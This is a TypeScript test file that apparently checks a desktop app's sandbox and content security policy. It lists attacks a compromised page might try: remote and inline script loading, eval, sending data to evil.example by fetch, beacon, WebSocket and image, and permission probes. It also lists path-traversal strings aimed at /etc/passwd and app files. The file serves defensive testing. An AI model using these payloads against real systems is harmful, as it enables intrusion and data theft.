/** The attempts of a compromised page, as texts that run in it, because this program's types have no DOM. */

/** Each attack returns its result as text, which begins with `no` if the attack failed. */
export const PAGE_ATTACKS: readonly (readonly [attack: string, tried: string, code: string])[] = [
  ['run code', 'inline script', `add('script', { textContent: 'globalThis.ran = true' }); return ran()`],
  [
    'run code',
    'script from data:',
    `await added('script', { src: 'data:text/javascript,globalThis.ran=true' }); return ran()`,
  ],
  ['run code', 'remote script', `await added('script', { src: 'https://evil.example/x.js' }); return ran()`],
  [
    'run code',
    'script from blob:',
    `await added('script', { src: URL.createObjectURL(new Blob(['globalThis.ran=true'])) }); return ran()`,
  ],
  [
    'run code',
    'an attribute',
    `const it = add('div', { innerHTML: '<img src="data:," onerror="globalThis.ran=true">' }).firstChild; await new Promise((say) => it.addEventListener('error', say)); return ran()`,
  ],
  ['run code', 'eval', `return tries(() => (0, eval)('1'))`],
  ['run code', 'new Function', `return tries(() => new Function('return 1')())`],
  [
    'run code',
    'setTimeout with text',
    `setTimeout('globalThis.ran = true'); await new Promise((say) => setTimeout(say)); return ran()`,
  ],
  ['run code', 'a worker', `return (await works()) ? 'it works' : 'no: it does not start'`],
  [
    'reach Node',
    'require, process',
    `return typeof require + typeof process === 'undefinedundefined' ? 'no: there is neither' : 'there they are'`,
  ],
  ['send something', 'fetch', `return fetch('https://evil.example/').then(() => 'sent', () => 'no: refused')`],
  ['send something', 'fetch of its own origin', `return fetch('index.html').then(() => 'sent', () => 'no: refused')`],
  [
    'send something',
    'an image',
    `return (await added('img', { src: 'https://evil.example/?' })) === 'error' ? 'no: refused' : 'sent'`,
  ],
  [
    'send something',
    'WebSocket',
    `return new Promise((say) => { try { const it = new WebSocket('wss://evil.example'); it.onopen = () => say('sent'); it.onerror = () => say('no: refused'); } catch { say('no: refused'); } })`,
  ],
  [
    'send something',
    'a beacon',
    `return navigator.sendBeacon('https://evil.example/', 'x') && blocked('connect-src') ? 'no: refused' : blocked('connect-src') ? 'no: refused' : 'sent'`,
  ],
  [
    'open a window',
    'window.open',
    `const other = open('https://evil.example/'); for (let tries = 0; other && !other.closed && tries < 50; tries++) await soon(); return !other || other.closed ? 'no: none stays' : 'opened'`,
  ],
  [
    'put in a page',
    'a frame',
    `await added('iframe', { src: 'https://evil.example/' }); return blocked('frame-src') ? 'no: refused' : 'there'`,
  ],
  [
    'put in a page',
    'webview',
    `const it = add('webview', { src: 'https://evil.example/' }); return it.getWebContentsId ? 'there' : 'no: an unknown element'`,
  ],
  [
    'ask as a frame',
    'the contract in a sub-frame',
    `const frame = add('iframe', {}); return frame.contentWindow.companion ? 'there' : 'no: it is not there'`,
  ],
  [
    'change the contract',
    'its functions',
    `try { companion.quit = 1; } catch {} return typeof companion.quit === 'function' ? 'no: fixed' : 'changed'`,
  ],
  ...[
    'geolocation',
    'notifications',
    'camera',
    'microphone',
    'clipboard-read',
    'midi',
    'persistent-storage',
    'idle-detection',
    'local-fonts',
    'window-management',
  ].map(
    (name) =>
      [
        'check a permission',
        name,
        `return navigator.permissions.query({ name: '${name}' }).then(({ state }) => state === 'granted' ? state : 'no: ' + state, () => 'no: unknown')`,
      ] as const,
  ),
  [
    'ask a permission',
    'notifications',
    `return Notification.requestPermission().then((it) => it === 'granted' ? it : 'no: ' + it)`,
  ],
  [
    'ask a permission',
    'camera, microphone',
    `return navigator.mediaDevices ? navigator.mediaDevices.getUserMedia({ audio: true, video: true }).then(() => 'granted', () => 'no: refused') : 'no: there is none'`,
  ],
  [
    'ask a permission',
    'screen',
    `return navigator.mediaDevices ? Promise.race([navigator.mediaDevices.getDisplayMedia().then(() => 'granted', () => 'no: refused'), new Promise((say) => setTimeout(() => say('no: no answer'), 1000))]) : 'no: there is none'`,
  ],
  [
    'ask a permission',
    'place',
    `return new Promise((say) => navigator.geolocation.getCurrentPosition(() => say('granted'), () => say('no: refused')))`,
  ],
  ['ask a permission', 'clipboard', `return navigator.clipboard.readText().then(() => 'granted', () => 'no: refused')`],
  [
    'ask a permission',
    'USB, HID, serial',
    `return Promise.all(['usb', 'hid', 'serial'].map((it) => navigator[it] ? navigator[it].getDevices?.().then((all) => all.length) ?? 0 : 0)).then((all) => all.some((it) => it) ? 'devices' : 'no: none', () => 'no: refused')`,
  ],
];

/** Wraps each attack. */
export const inPage = (code: string): string => `(async () => {
  globalThis.ran = false;
  globalThis.violations ??= (() => {
    const all = [];
    document.addEventListener('securitypolicyviolation', (event) => all.push(event.effectiveDirective));
    return all;
  })();
  // Once the app responds, everything that the page requested before has reached it, including timers without a delay.
  const soon = async () => { await new Promise((resolve) => setTimeout(resolve)); await companion.current(); };
  const ran = () => globalThis.ran ? 'it ran' : 'no: it did not run';
  const add = (name, properties) => { const it = Object.assign(document.createElement(name), properties); document.body.append(it); return it; };
  const added = (name, properties) => new Promise((say) => { add(name, { ...properties, onload: () => say('load'), onerror: () => say('error') }); });
  const blocked = (directive) => violations.includes(directive);
  const works = () => new Promise((say) => { const it = new Worker('data:text/javascript,postMessage(1)'); it.onmessage = () => say(true); it.onerror = () => say(false); });
  // Run it later, because code that a debugger evaluates is allowed to evaluate code itself.
  const tries = (run) => { try { run(); return 'it ran'; } catch { return 'no: refused'; } };
  return new Promise((resolve) => setTimeout(async () => {
    // No one answers this dialog.
    setTimeout(() => resolve('no: no answer'), 10_000);
    try { resolve(String(await (async () => { ${code} })())); } catch (error) { resolve('no: ' + error.name); }
  }));
})()`;

/** Paths that would lead out of the window's files, to files that exist. */
export const TRAVERSALS: readonly string[] = [
  '../main/index.js',
  '..%2fmain%2findex.js',
  '%2e%2e/main/index.js',
  '%2e%2e%2fmain%2findex.js',
  '..%252fmain%252findex.js',
  '..\\main\\index.js',
  '..%5cmain%5cindex.js',
  'assets/../../main/index.js',
  '/etc/passwd',
  '//etc/passwd',
  '/C:/Windows/win.ini',
  'index.html%00.js',
  'app://other/index.js',
  'app://companion:80/index.js',
  'file:///etc/passwd',
  '.hidden.js',
];

/** Arguments that no request accepts. As text, because not all of them survive JSON. */
export const WRONG_VALUES: readonly string[] = [
  'undefined',
  'null',
  '0',
  '-1',
  'NaN',
  'Infinity',
  '1n',
  'true',
  `''`,
  `'x'`,
  `'__proto__'`,
  `'x'.repeat(1e6)`,
  '[]',
  '[[]]',
  '{}',
  '{ length: 1 }',
  'Object.create(null)',
  'new Date()',
  'new Map([[1, 2]])',
  'new Set([1])',
  'new Uint8Array(8)',
  '/x/',
  'new Error("x")',
  '() => 1',
  'Symbol("x")',
  '{ toString: 1 }',
  `{ url: 1, clientId: {} }`,
  `{ name: 'theme', value: {} }`,
  `{ user: 'a', password: ['b'] }`,
  `{ kind: 'state' }`,
];
